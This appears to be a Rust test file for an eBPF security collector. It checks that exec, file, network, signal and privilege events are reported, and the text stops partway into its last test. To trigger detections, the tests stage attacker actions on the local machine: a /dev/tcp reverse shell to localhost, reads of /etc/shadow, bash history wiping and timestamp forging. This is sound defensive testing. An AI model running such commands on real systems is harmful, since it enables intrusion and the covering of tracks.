//! Loads the real eBPF programs into this machine's kernel (needs root) and checks what real processes produce.

use std::process::Command;
use std::time::{Duration, Instant};

use palisade_collect::{CollectConfig, Collector};
use palisade_schemas::{NodeEvent, NodeEventKind};

fn wait_for(
    receiver: &mut tokio::sync::mpsc::Receiver<NodeEvent>,
    mut pred: impl FnMut(&NodeEvent) -> bool,
) -> Option<NodeEvent> {
    let deadline = Instant::now() + Duration::from_secs(10);
    while Instant::now() < deadline {
        match receiver.try_recv() {
            Ok(event) if pred(&event) => return Some(event),
            Ok(_) => {}
            Err(_) => std::thread::sleep(Duration::from_millis(20)),
        }
    }
    None
}

/// The collector as configured here: the processes these tests start are children of the test process, which is
/// the collector, so they must not be left out as its descendants (a test below checks that leaving-out).
fn tested() -> CollectConfig {
    CollectConfig { exclude_own_descendants: false, ..CollectConfig::default() }
}

#[test]
fn exec_events_carry_argv_ancestry_and_host_attribution() {
    assert_eq!(
        palisade_collect::loader::unavailable_reason(),
        None,
        "this test loads eBPF programs: run it as root on a kernel with BTF"
    );
    let (collector, mut events) = Collector::start(&tested(), "test-node").expect("programs load");

    let status =
        Command::new("/bin/sh").args(["-c", "/bin/true palisade-smoke-a 'two words' && exit 0"]).status().unwrap();
    assert!(status.success());
    let event = wait_for(&mut events, |e| e.argv.iter().any(|a| a == "palisade-smoke-a")).expect("exec event arrives");
    assert_eq!(event.kind, NodeEventKind::Exec);
    assert_eq!(event.executable.as_deref(), Some("/bin/true"));
    assert_eq!(event.argv, ["/bin/true", "palisade-smoke-a", "two words"]);
    assert!(!event.argv_truncated);
    assert_eq!(event.node, "test-node");
    assert!(!event.in_container, "a host process is not in a container");
    assert!(event.ppid > 0);
    assert_eq!(event.ancestry.first().map(|p| p.executable.as_str()), Some("/bin/sh"), "{:?}", event.ancestry);
    let now_ms = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_millis() as i64;
    assert!((now_ms - event.timestamp_ms).abs() < 10_000, "wall clock derived from ktime: {}", event.timestamp_ms);

    // A command line longer than the kernel limit is cut and flagged, not lost.
    let long = "x".repeat(3000);
    Command::new("/bin/true").arg("palisade-smoke-long").arg(&long).status().unwrap();
    let event =
        wait_for(&mut events, |e| e.argv.get(1).is_some_and(|a| a == "palisade-smoke-long")).expect("long exec");
    assert!(event.argv_truncated);

    // The collector's own process is excluded in the kernel: a thread of this test process execs nothing, but
    // a child it spawns is reported; our own pid never appears as the event's tgid.
    assert_ne!(event.tgid, i64::from(std::process::id()));
    let stats = &collector.stats;
    assert!(stats.exec_events.load(std::sync::atomic::Ordering::Relaxed) >= 2);
    assert_eq!(stats.queue_drops.load(std::sync::atomic::Ordering::Relaxed), 0);
    collector.stop();
}

/// O_TRUNC on Linux.
fn libc_o_trunc() -> i64 {
    0o1000
}

fn run(command: &str) {
    let status = Command::new("/bin/sh").args(["-c", command]).status().unwrap();
    assert!(status.success(), "{command}");
}

#[test]
fn file_network_namespace_signal_and_privilege_syscalls_are_reported() {
    let (collector, mut events) = Collector::start(&tested(), "test-node").expect("programs load");
    let dir = format!("/tmp/palisade-kernel-{}", std::process::id());
    std::fs::create_dir_all(&dir).unwrap();

    // Timestamp tampering copying another file's times (touch -r), rename, unlink under /tmp (a watched prefix).
    run(&format!(
        "touch -d '2001-02-03 04:05:06 UTC' {dir}/reference && touch -r {dir}/reference {dir}/f && mv {dir}/f {dir}/g && rm {dir}/g"
    ));
    let utimes = wait_for(&mut events, |e| {
        e.kind == NodeEventKind::FileUtimes && e.file.as_ref().is_some_and(|f| f.path == format!("{dir}/f"))
    })
    .expect("utimensat on a watched path");
    assert_eq!(utimes.file.as_ref().unwrap().mtime_ns, Some(981_173_106_000_000_000), "the reference file's time");
    assert!(utimes.executable.as_deref().is_some_and(|e| e.ends_with("/touch")), "{:?}", utimes.executable);
    let rename = wait_for(&mut events, |e| e.kind == NodeEventKind::FileRename).expect("rename");
    assert_eq!(rename.file.as_ref().unwrap().new_path.as_deref(), Some(format!("{dir}/g").as_str()));
    assert!(
        wait_for(&mut events, |e| e.kind == NodeEventKind::FileUnlink
            && e.file.as_ref().is_some_and(|f| f.path == format!("{dir}/g")))
        .is_some()
    );

    // A shell history file truncated, then removed (the `_history` suffix matches in any home).
    run(&format!("echo 'ls' > {dir}/.bash_history && : > {dir}/.bash_history && rm {dir}/.bash_history"));
    let truncated = wait_for(&mut events, |e| {
        e.kind == NodeEventKind::FileOpen
            && e.file.as_ref().is_some_and(|f| f.path.ends_with("/.bash_history") && f.flags & libc_o_trunc() != 0)
    });
    assert!(truncated.is_some(), "open with O_TRUNC of the history file");
    assert!(
        wait_for(&mut events, |e| e.kind == NodeEventKind::FileUnlink
            && e.file.as_ref().is_some_and(|f| f.path.ends_with("/.bash_history")))
        .is_some()
    );

    // A read of /etc/shadow is seen; a read of an unwatched file is filtered in the kernel.
    run("cat /etc/hostname >/dev/null; cat /etc/shadow >/dev/null");
    let shadow = wait_for(&mut events, |e| {
        e.kind == NodeEventKind::FileOpen && e.file.as_ref().is_some_and(|f| f.path.starts_with("/etc/"))
    })
    .expect("an /etc open");
    assert_eq!(shadow.file.as_ref().unwrap().path, "/etc/shadow", "/etc/hostname must have been filtered out");

    // connect(2) with the destination, from a child process.
    run("python3 -c \"import socket; socket.socket().connect_ex(('127.0.0.1', 9))\"");
    let connect = wait_for(&mut events, |e| {
        e.kind == NodeEventKind::NetConnect && e.net.as_ref().is_some_and(|n| n.dst_port == Some(9))
    })
    .expect("connect");
    assert_eq!(connect.net.as_ref().unwrap().dst_addr.as_deref(), Some("127.0.0.1"));

    // A new network namespace.
    run("unshare -n /bin/true");
    let namespace = wait_for(&mut events, |e| e.kind == NodeEventKind::NamespaceChange).expect("unshare");
    assert_ne!(namespace.namespace.as_ref().unwrap().flags & 0x4000_0000, 0, "CLONE_NEWNET");

    // A signal to a named process, with the target's executable resolved.
    run("sleep 30 & pid=$!; sleep 0.3; kill -TERM $pid; wait $pid || true");
    let signal =
        wait_for(&mut events, |e| e.kind == NodeEventKind::Signal && e.signal.as_ref().is_some_and(|s| s.signal == 15))
            .expect("kill");
    assert!(signal.signal.as_ref().unwrap().target_executable.as_deref().is_some_and(|t| t.ends_with("/sleep")));

    // setuid.
    run("python3 -c 'import os; os.setuid(65534)'");
    let privilege = wait_for(&mut events, |e| e.kind == NodeEventKind::PrivilegeChange).expect("setuid");
    assert_eq!(privilege.privilege.as_ref().unwrap().new_uid, Some(65534));

    // capset (setpriv clears the inheritable set through it).
    run("setpriv --inh-caps=-all /bin/true");
    let capset = wait_for(&mut events, |e| {
        e.kind == NodeEventKind::PrivilegeChange && e.privilege.as_ref().is_some_and(|p| p.syscall == "capset")
    })
    .expect("capset");
    assert!(capset.privilege.as_ref().unwrap().new_capabilities.is_some());

    let _ = std::fs::remove_dir_all(&dir);
    assert_eq!(collector.stats.queue_drops.load(std::sync::atomic::Ordering::Relaxed), 0);
    collector.stop();
}

/// Where cgroup2 is mounted: `/sys/fs/cgroup/unified` on hybrid hosts, else `/sys/fs/cgroup`.
fn cgroup_v2_root() -> &'static str {
    ["/sys/fs/cgroup/unified", "/sys/fs/cgroup"]
        .into_iter()
        .find(|p| std::path::Path::new(p).join("cgroup.procs").exists())
        .expect("a cgroup v2 hierarchy (cgroup2 mounted at /sys/fs/cgroup or /sys/fs/cgroup/unified)")
}

/// A process placed in a cgroup laid out the way containerd and the kubelet's systemd driver lay them out is
/// attributed to that container and pod, from the cgroup id the kernel reports.
#[test]
fn a_process_in_a_containerd_style_cgroup_is_attributed_to_its_container_and_pod() {
    let root = cgroup_v2_root();
    let container_id = format!("{:0>64x}", std::process::id() as u64 * 7919 + 0xabc);
    let pod_uid = "0d9a2f4e-1111-2222-3333-444455556666";
    let pod_slice = format!("kubepods-besteffort-pod{}.slice", pod_uid.replace('-', "_"));
    let parents = [
        format!("{root}/kubepods.slice"),
        format!("{root}/kubepods.slice/kubepods-besteffort.slice"),
        format!("{root}/kubepods.slice/kubepods-besteffort.slice/{pod_slice}"),
    ];
    let scope = format!("{}/cri-containerd-{container_id}.scope", parents[2]);
    for dir in parents.iter().chain([&scope]) {
        std::fs::create_dir_all(dir).unwrap_or_else(|e| panic!("creating {dir}: {e}"));
    }
    let (collector, mut events) = Collector::start(&tested(), "test-node").expect("programs load");

    // The shell moves itself into the container's cgroup, then execs the marker process there.
    run(&format!(
        "echo $$ > {scope}/cgroup.procs && exec unshare --pid --fork --mount --uts --ipc --mount-proc /bin/true palisade-in-container"
    ));
    let inside = wait_for(&mut events, |e| e.argv.get(1).is_some_and(|a| a == "palisade-in-container"))
        .expect("exec inside the container cgroup");
    assert_eq!(inside.container_id.as_deref(), Some(container_id.as_str()));
    assert_eq!(inside.pod_uid.as_deref(), Some(pod_uid));
    assert!(inside.in_container);
    assert_ne!(inside.cgroup_id, 1, "the kernel reported the container's cgroup, not the root");
    assert_eq!(inside.partition_key(), format!("test-node/{container_id}"));

    // The same command on the host is not attributed to any container.
    run("/bin/true palisade-on-host");
    let outside = wait_for(&mut events, |e| e.argv.get(1).is_some_and(|a| a == "palisade-on-host")).expect("host exec");
    assert!(!outside.in_container);
    assert_eq!(outside.container_id, None);
    collector.stop();
    std::thread::sleep(Duration::from_millis(200));
    for dir in std::iter::once(&scope).chain(parents.iter().rev()) {
        let _ = std::fs::remove_dir(dir);
    }
}

/// A container that runs one command and is gone (its process exited, its cgroup removed) before the collector
/// reads the exec — a short-lived attack pod, or a collector behind under load — is still attributed: the cgroup's
/// path is taken from the kernel when the runtime creates it, not looked up afterwards. The reader is paused
/// across the container's whole life, so nothing of it is left to look up when the exec is read.
#[test]
fn a_container_gone_before_its_exec_is_read_is_still_attributed() {
    let root = cgroup_v2_root();
    let container_id = format!("{:0>64x}", std::process::id() as u64 * 7907 + 0xdead);
    let pod_uid = "5e1f0c2a-7777-4888-9999-aaaabbbbcccc";
    // The cgroupfs driver's layout (containerd on a host without systemd cgroups), below a directory of this
    // test's own: a real kubelet's `kubepods` may be on this host.
    let top = format!("{root}/palisade-test-{}", std::process::id());
    let parents = [
        top.clone(),
        format!("{top}/kubepods"),
        format!("{top}/kubepods/besteffort"),
        format!("{top}/kubepods/besteffort/pod{pod_uid}"),
    ];
    let scope = format!("{}/{container_id}", parents[3]);
    /// Removes the test's cgroups (innermost first), also when an assertion fails.
    struct Cgroups(Vec<String>);
    impl Drop for Cgroups {
        fn drop(&mut self) {
            for dir in self.0.iter().rev() {
                let _ = std::fs::remove_dir(dir);
            }
        }
    }
    let _cgroups = Cgroups(parents.iter().chain([&scope]).cloned().collect());
    let (collector, mut events) = Collector::start(&tested(), "test-node").expect("programs load");
    for dir in parents.iter().chain([&scope]) {
        std::fs::create_dir_all(dir).unwrap_or_else(|e| panic!("creating {dir}: {e}"));
    }
    collector.pause();
    run(&format!("echo $$ > {scope}/cgroup.procs && exec /bin/true palisade-short-lived-container"));
    std::fs::remove_dir(&scope).unwrap_or_else(|e| panic!("removing {scope}: {e}"));
    collector.resume();
    let exec = wait_for(&mut events, |e| e.argv.get(1).is_some_and(|a| a == "palisade-short-lived-container"))
        .expect("the exec is read once the reader resumes");
    collector.stop();
    assert_eq!(exec.container_id.as_deref(), Some(container_id.as_str()), "{exec:?}");
    assert_eq!(exec.pod_uid.as_deref(), Some(pod_uid));
    assert!(exec.in_container);
}

/// A shell whose stdin and stdout are a TCP socket — how a reverse shell shows — is reported with socket stdio;
/// exits carry their status.
#[test]
fn socket_stdio_and_exit_codes_are_reported() {
    let (collector, mut events) = Collector::start(&tested(), "test-node").expect("programs load");
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let accept = std::thread::spawn(move || {
        let (mut stream, _) = listener.accept().unwrap();
        use std::io::Write;
        stream.write_all(b"sleep 1; exit 0\n").unwrap();
        let mut sink = Vec::new();
        use std::io::Read;
        let _ = stream.read_to_end(&mut sink);
    });
    // bash with stdio redirected to the socket, as `bash -i >& /dev/tcp/host/port 0>&1` does.
    let status = Command::new("bash")
        .args(["-c", &format!("exec 3<>/dev/tcp/127.0.0.1/{port}; exec bash --norc -s palisade-revshell <&3 >&3 2>&3")])
        .status()
        .unwrap();
    assert!(status.success());
    accept.join().unwrap();
    let shell =
        wait_for(&mut events, |e| e.kind == NodeEventKind::Exec && e.argv.iter().any(|a| a == "palisade-revshell"))
            .expect("the shell's exec");
    assert_eq!(shell.stdio, ["socket", "socket", "socket"], "{:?}", shell.stdio);
    assert_eq!(shell.tty, None, "no controlling terminal");

    let status = Command::new("/bin/sh").args(["-c", "exit 7"]).status().unwrap();
    assert_eq!(status.code(), Some(7));
    let exit = wait_for(&mut events, |e| e.kind == NodeEventKind::Exit && e.exit_code == Some(7)).expect("exit 7");
    assert!(exit.tgid > 0);

    // A process killed by a signal did not exit by itself: no exit code (not a made-up 0).
    let mut child = Command::new("/bin/sleep").arg("30").spawn().unwrap();
    let pid = child.id();
    child.kill().unwrap();
    let _ = child.wait();
    let killed = wait_for(&mut events, |e| e.kind == NodeEventKind::Exit && e.tgid == i64::from(pid)).expect("exit");
    assert_eq!(killed.exit_code, None, "killed by SIGKILL");
    collector.stop();
}

/// A `#!` script's exec names the script and carries the argv the kernel built for its interpreter, as
/// `/proc/<pid>/cmdline` shows it: interpreter, script path, then the script's own arguments.
#[test]
fn a_script_exec_carries_its_interpreters_argv() {
    let (collector, mut events) = Collector::start(&tested(), "test-node").expect("programs load");
    let dir = std::env::temp_dir().join(format!("palisade-script-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let script = dir.join("palisade-script.sh");
    std::fs::write(&script, "#!/bin/sh\nexit 0\n").unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
    assert!(Command::new(&script).arg("palisade-script-arg").status().unwrap().success());
    let event =
        wait_for(&mut events, |e| e.kind == NodeEventKind::Exec && e.argv.iter().any(|a| a == "palisade-script-arg"))
            .expect("the script's exec");
    let path = script.display().to_string();
    assert_eq!(event.executable.as_deref(), Some(path.as_str()));
    assert_eq!(event.argv, ["/bin/sh", path.as_str(), "palisade-script-arg"]);
    std::fs::remove_dir_all(&dir).unwrap();
    collector.stop();
}

/// Listening, accepting, the first bytes of a new outbound connection (a SOCKS5 greeting here), and fork flags.
#[test]
fn listen_accept_first_payload_and_fork_are_reported() {
    let (collector, mut events) = Collector::start(&tested(), "test-node").expect("programs load");
    let script = r#"
import socket, os
server = socket.socket(); server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
port = int(os.environ["PORT"])
server.bind(("127.0.0.1", port)); server.listen(1)
client = socket.socket(); client.connect(("127.0.0.1", port))
peer, _ = server.accept()
client.send(b"\x05\x01\x00")
client.send(b"later bytes are not reported")
pid = os.fork()
if pid == 0:
    os._exit(0)
os.waitpid(pid, 0)
print(port)
"#;
    // A fixed port: the address recorded is the one passed to bind(2), before the kernel would pick a port.
    let free = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    let output = Command::new("python3").args(["-c", script]).env("PORT", free.to_string()).output().unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    let port: i64 = String::from_utf8_lossy(&output.stdout).trim().parse().unwrap();

    let listen = wait_for(&mut events, |e| {
        e.kind == NodeEventKind::NetListen && e.net.as_ref().is_some_and(|n| n.src_port == Some(port))
    })
    .expect("listen with the bound address");
    assert_eq!(listen.net.as_ref().unwrap().src_addr.as_deref(), Some("127.0.0.1"));
    let accept =
        wait_for(&mut events, |e| e.kind == NodeEventKind::NetAccept && e.tgid == listen.tgid).expect("accept");
    assert_eq!(accept.net.as_ref().unwrap().src_addr.as_deref(), Some("127.0.0.1"), "the peer");
    let send = wait_for(&mut events, |e| {
        e.kind == NodeEventKind::NetSend && e.net.as_ref().is_some_and(|n| n.dst_port == Some(port))
    })
    .expect("first payload");
    assert_eq!(send.net.as_ref().unwrap().payload_head.as_deref(), Some(&[5u8, 1, 0][..]), "SOCKS5 greeting");
    let fork =
        wait_for(&mut events, |e| e.kind == NodeEventKind::Fork && e.ppid == send.tgid && e.clone_flags.is_some())
            .expect("fork of the python process");
    assert_eq!(fork.clone_flags.unwrap() & 0x10000, 0, "a process, not a thread");
    collector.stop();
}

/// Nothing is lost silently: a paused reader makes the kernel count ring-buffer drops, and a full queue to the
/// publisher is counted too.
#[test]
fn drops_are_counted_when_userspace_does_not_keep_up() {
    use std::sync::atomic::Ordering::Relaxed;
    let (collector, events) = Collector::start(&tested(), "test-node").expect("programs load");
    collector.pause();
    // About 2.4 KB per exec record (plus fork and exit) into an 8 MiB ring: 5000 execs overflow it.
    run("i=0; while [ $i -lt 5000 ]; do /bin/true; i=$((i+1)); done");
    collector.resume();
    let deadline = std::time::Instant::now() + Duration::from_secs(10);
    while collector.stats.kernel_drops.load(Relaxed) == 0 && std::time::Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(100));
    }
    assert!(collector.stats.kernel_drops.load(Relaxed) > 0, "ring-buffer drops counted in the kernel");
    drop(events);
    collector.stop();

    let small = CollectConfig { queue_capacity: 8, ..tested() };
    let (collector, events) = Collector::start(&small, "test-node").expect("programs load");
    run("i=0; while [ $i -lt 100 ]; do /bin/true; i=$((i+1)); done");
    let deadline = std::time::Instant::now() + Duration::from_secs(10);
    while collector.stats.queue_drops.load(Relaxed) == 0 && std::time::Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(100));
    }
    assert!(collector.stats.queue_drops.load(Relaxed) > 0, "queue drops counted");
    assert_eq!(events.len(), 8, "the queue stays bounded");
    collector.stop();
}

/// The argv byte limit is configurable; a longer command line is cut at it and flagged.
#[test]
fn the_argv_limit_is_configurable() {
    let config = CollectConfig { argv_max_bytes: 64, ..tested() };
    let (collector, mut events) = Collector::start(&config, "test-node").expect("programs load");
    Command::new("/bin/true").args(["palisade-argv-limit", &"y".repeat(200)]).status().unwrap();
    let event = wait_for(&mut events, |e| e.argv.get(1).is_some_and(|a| a == "palisade-argv-limit")).expect("exec");
    assert!(event.argv_truncated);
    // Arguments and the NULs between them (the cut last argument has none).
    let kept: usize = event.argv.iter().map(String::len).sum::<usize>() + event.argv.len() - 1;
    assert!(kept <= 64, "{kept} bytes kept");
    collector.stop();
}

/// Descriptor kinds, the controlling terminal, effective uid and capabilities are read in the kernel at exec, so
/// a command that exits at once carries them too.
#[test]
fn short_lived_commands_carry_stdio_terminal_and_credentials() {
    use std::process::Stdio;
    let (collector, mut events) = Collector::start(&tested(), "test-node").expect("programs load");
    let mut child = Command::new("/bin/true")
        .arg("palisade-stdio-probe")
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(std::fs::File::create("/tmp/palisade-stdio-probe.log").unwrap())
        .spawn()
        .unwrap();
    // Our end of the child's stdout pipe: the same inode as its end.
    let pipe = {
        use std::os::unix::fs::MetadataExt;
        use std::os::unix::io::AsRawFd;
        let ours = child.stdout.as_ref().expect("piped").as_raw_fd();
        std::fs::metadata(format!("/proc/self/fd/{ours}")).unwrap().ino()
    };
    assert!(child.wait().unwrap().success());
    let event = wait_for(&mut events, |e| e.argv.get(1).is_some_and(|a| a == "palisade-stdio-probe")).expect("exec");
    assert_eq!(event.stdio, ["null".to_owned(), format!("pipe:[{pipe}]"), "file".to_owned()]);
    assert_eq!(event.euid, 0, "the tests run as root");
    let caps = event.capabilities_effective.expect("capabilities read in the kernel");
    let status = std::fs::read_to_string("/proc/self/status").unwrap();
    let ours = status.lines().find_map(|l| l.strip_prefix("CapEff:")).map(|hex| i64::from_str_radix(hex.trim(), 16));
    assert_eq!(Some(caps), ours.map(Result::unwrap), "the child has this process's effective set");

    // `script` gives its command a new pseudo-terminal as controlling terminal and stdio.
    run("script -qec '/bin/true palisade-tty-probe' /dev/null > /dev/null");
    let event = wait_for(&mut events, |e| e.argv.get(1).is_some_and(|a| a == "palisade-tty-probe")).expect("exec");
    assert!(event.tty.as_deref().is_some_and(|t| t.starts_with("/dev/pts/")), "{:?}", event.tty);
    assert_eq!(event.stdio, ["tty", "tty", "tty"]);

    // A capability-dropping exec: setpriv clears the effective set before running the command.
    run("setpriv --inh-caps=-all --bounding-set=-all /bin/true palisade-nocaps-probe");
    let event = wait_for(&mut events, |e| e.argv.get(1).is_some_and(|a| a == "palisade-nocaps-probe")).expect("exec");
    assert_eq!(event.capabilities_effective, Some(0), "root without a bounding set keeps no capability");
    collector.stop();
    let _ = std::fs::remove_file("/tmp/palisade-stdio-probe.log");
}

/// With `exclude_own_descendants`, what the collector starts is left out in the kernel; a process it did not
/// start (here a shell forked before the programs were loaded) is still reported.
#[test]
fn the_collectors_own_descendants_are_left_out() {
    use std::io::Write;
    use std::process::Stdio;
    let mut outsider = Command::new("/bin/sh")
        .args(["-c", "read go; exec /bin/true palisade-outsider"])
        .stdin(Stdio::piped())
        .spawn()
        .unwrap();
    let config = CollectConfig { exclude_own_descendants: true, ..CollectConfig::default() };
    let (collector, mut events) = Collector::start(&config, "test-node").expect("programs load");
    run("/bin/true palisade-descendant");
    outsider.stdin.take().unwrap().write_all(b"go\n").unwrap();
    assert!(outsider.wait().unwrap().success());
    let mut seen = Vec::new();
    let outsider_exec = wait_for(&mut events, |e| {
        seen.push(e.argv.clone());
        e.argv.get(1).is_some_and(|a| a == "palisade-outsider")
    });
    assert!(outsider_exec.is_some(), "a process the collector did not start is reported");
    assert!(
        !seen.iter().any(|argv| argv.iter().any(|a| a == "palisade-descendant")),
        "a child of the collector was reported"
    );
    collector.stop();
}

/// `tests/tools/syscalls.c` built static with musl, as Alpine's tools are: each run makes one syscall directly.
fn musl_syscalls_tool(dir: &str) -> String {
    let source = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/tools/syscalls.c");
    let binary = format!("{dir}/syscalls");
    let output = Command::new("musl-gcc").args(["-static", "-O2", "-o", &binary, source]).output();
    let output = output.expect("musl-gcc runs (Debian's musl-tools; the testbed installs it)");
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    binary
}

/// Every syscall that reaches a watched file is reported, not only the openat glibc uses: musl's open(2) (Alpine,
/// busybox, static tools), creat, openat2, the chmod and chown families, and the descriptor forms (ftruncate,
/// fchmod, fchown, futimens) on a descriptor moved to another number, named by the path the file was opened by.
/// The same syscalls on an unwatched file stay in the kernel.
#[test]
fn every_syscall_form_reaching_a_watched_file_is_reported() {
    let (collector, mut events) = Collector::start(&tested(), "test-node").expect("programs load");
    let dir = format!("/tmp/palisade-forms-{}", std::process::id());
    std::fs::create_dir_all(&dir).unwrap();
    let tool = musl_syscalls_tool(&dir);
    let watched = format!("{dir}/watched");
    std::fs::write(&watched, "data").unwrap();
    // Under /opt, which no default prefix watches.
    let unwatched_dir = format!("/opt/palisade-forms-{}", std::process::id());
    std::fs::create_dir_all(&unwatched_dir).unwrap();
    let unwatched = format!("{unwatched_dir}/plain");
    std::fs::write(&unwatched, "data").unwrap();
    let by_tool = |e: &NodeEvent| e.executable.as_deref() == Some(tool.as_str()) || e.comm == "syscalls";
    let file_event = |events: &mut tokio::sync::mpsc::Receiver<NodeEvent>, kind: NodeEventKind, path: &str| {
        wait_for(events, |e| e.kind == kind && by_tool(e) && e.file.as_ref().is_some_and(|f| f.path == path))
            .unwrap_or_else(|| panic!("{kind:?} of {path}"))
    };

    for target in [unwatched.as_str(), "/etc/shadow"] {
        run(&format!("{tool} open {target} && {tool} cat {target}"));
    }
    let open = file_event(&mut events, NodeEventKind::FileOpen, "/etc/shadow");
    assert_eq!(open.file.as_ref().unwrap().flags & 0o3, 0, "read-only");
    run(&format!("{tool} creat {dir}/created && {tool} openat2 {watched}"));
    let creat = file_event(&mut events, NodeEventKind::FileOpen, &format!("{dir}/created"));
    assert_eq!(creat.file.as_ref().unwrap().flags, 0o1101, "O_CREAT | O_WRONLY | O_TRUNC");
    assert_eq!(creat.file.as_ref().unwrap().mode, Some(0o600));
    file_event(&mut events, NodeEventKind::FileOpen, &watched);

    run(&format!(
        "{tool} chmod {watched} && {tool} fchmodat2 {watched} && {tool} chown {watched} && {tool} lchown {watched}"
    ));
    let modes: Vec<i64> = (0..2)
        .map(|_| file_event(&mut events, NodeEventKind::FileChmod, &watched).file.unwrap().mode.unwrap())
        .collect();
    assert_eq!(modes, [0o640, 0o641]);
    let owners: Vec<Option<i64>> =
        (0..2).map(|_| file_event(&mut events, NodeEventKind::FileChown, &watched).file.unwrap().owner_uid).collect();
    assert_eq!(owners, [Some(1001), Some(1002)]);

    run(&format!("{tool} descriptors {unwatched} && {tool} descriptors {watched}"));
    run(&format!("{tool} empty-path {unwatched} && {tool} high-fd {unwatched}"));
    // An odd spelling of an unwatched file passes the kernel's filter for its text; the collector drops it.
    run(&format!("{tool} chmod {unwatched_dir}/./plain && {tool} chmod {unwatched_dir}//plain"));
    file_event(&mut events, NodeEventKind::FileTruncate, &watched);
    let chmod = file_event(&mut events, NodeEventKind::FileChmod, &watched);
    assert_eq!(chmod.file.unwrap().mode, Some(0o604));
    let chown = file_event(&mut events, NodeEventKind::FileChown, &watched);
    assert_eq!(chown.file.unwrap().owner_uid, Some(1003));
    let times = file_event(&mut events, NodeEventKind::FileUtimes, &watched);
    assert_eq!(times.file.unwrap().mtime_ns, Some(946_684_800_000_000_000));

    // The *at forms on a descriptor (empty path, AT_EMPTY_PATH), and a descriptor with the register's upper half set.
    run(&format!("{tool} empty-path {watched} && {tool} high-fd {watched}"));
    let chown = file_event(&mut events, NodeEventKind::FileChown, &watched);
    assert_eq!(chown.file.unwrap().owner_uid, Some(1004));
    let chmod = file_event(&mut events, NodeEventKind::FileChmod, &watched);
    assert_eq!(chmod.file.unwrap().mode, Some(0o605));
    file_event(&mut events, NodeEventKind::FileTruncate, &watched);

    // A relative path is reported joined to the process's working directory (read while the process lives; it
    // waits for the event before it exits), the `/authorized_keys` suffix matching `authorized_keys` alone.
    let mut child = Command::new("python3")
        .args([
            "-c",
            &format!("import os, sys\nos.chdir('{dir}')\nopen('authorized_keys', 'a').close()\nsys.stdin.read(1)"),
        ])
        .stdin(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let relative = wait_for(&mut events, |e| {
        e.kind == NodeEventKind::FileOpen && e.file.as_ref().is_some_and(|f| f.path.ends_with("authorized_keys"))
    });
    use std::io::Write;
    let _ = child.stdin.take().unwrap().write_all(b"x");
    let _ = child.wait();
    assert_eq!(relative.expect("relative open").file.unwrap().path, format!("{dir}/authorized_keys"));

    // Nothing the tool did to the unwatched file came out.
    run(&format!("{tool} open {dir}/end-marker 2>/dev/null || true"));
    let mut leaked = Vec::new();
    let end = wait_for(&mut events, |e| {
        if by_tool(e) && e.file.as_ref().is_some_and(|f| f.path.starts_with(&unwatched_dir)) {
            leaked.push(e.clone());
        }
        e.file.as_ref().is_some_and(|f| f.path.ends_with("/end-marker"))
    });
    assert!(end.is_some(), "the end marker's open");
    assert!(leaked.is_empty(), "unwatched file reported: {leaked:#?}");

    let _ = std::fs::remove_dir_all(&dir);
    let _ = std::fs::remove_dir_all(&unwatched_dir);
    assert_eq!(collector.stats.queue_drops.load(std::sync::atomic::Ordering::Relaxed), 0);
    collector.stop();
}

/// A signal sent through a process descriptor names its target; the first bytes sent with sendmsg(2) on a new
/// connection are kept as those of write(2) and sendto(2) are.
#[test]
fn pidfd_signals_and_sendmsg_payloads_are_reported() {
    let (collector, mut events) = Collector::start(&tested(), "test-node").expect("programs load");
    let dir = format!("/tmp/palisade-pidfd-{}", std::process::id());
    std::fs::create_dir_all(&dir).unwrap();
    let tool = musl_syscalls_tool(&dir);

    let mut sleeper = Command::new("sleep").arg("30").spawn().unwrap();
    run(&format!("{tool} pidfd-kill {}", sleeper.id()));
    let _ = sleeper.wait();
    let signal = wait_for(&mut events, |e| e.kind == NodeEventKind::Signal && e.comm == "syscalls")
        .expect("pidfd_send_signal is reported");
    assert_eq!(signal.signal.as_ref().unwrap().target_pid, i64::from(sleeper.id()), "{signal:?}");
    let signal = signal.signal.unwrap();
    assert_eq!(signal.signal, 15);
    assert!(signal.target_executable.as_deref().is_some_and(|t| t.ends_with("/sleep")), "{signal:?}");

    // kill(2) with the signal's upper half set is the same signal.
    let mut sleeper = Command::new("sleep").arg("30").spawn().unwrap();
    run(&format!("{tool} high-kill {}", sleeper.id()));
    let _ = sleeper.wait();
    let signal = wait_for(&mut events, |e| {
        e.kind == NodeEventKind::Signal && e.signal.as_ref().is_some_and(|s| s.target_pid == i64::from(sleeper.id()))
    })
    .expect("kill with high bits is reported");
    assert_eq!(signal.signal.unwrap().signal, 15);

    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let server = std::thread::spawn(move || {
        let (mut stream, _) = listener.accept().unwrap();
        let _ = std::io::copy(&mut stream, &mut std::io::sink());
    });
    run(&format!("{tool} sendmsg {port}"));
    server.join().unwrap();
    let send = wait_for(&mut events, |e| {
        e.kind == NodeEventKind::NetSend && e.net.as_ref().is_some_and(|n| n.dst_port == Some(i64::from(port)))
    })
    .expect("sendmsg's first payload");
    assert_eq!(send.net.unwrap().payload_head.unwrap(), b"\x05\x01\x00PALISADE-SENDMSG");

    let _ = std::fs::remove_dir_all(&dir);
    collector.stop();
}

/// A watched file reached by any other spelling — relative to the working directory or to a directory descriptor,
/// with `//` or `/./`, through `/proc/<pid>/root`, a symlink, a hard link, or the host's root bind-mounted
/// elsewhere (a hostPath `/` volume) — is reported under its own name: the kernel matches the opened inode.
#[test]
fn a_watched_file_reached_by_another_spelling_is_reported_under_its_name() {
    // A watched file of our own (the `/etc/cron` prefix names it; cron reads only cron.d and crontab), listed when
    // the collector starts.
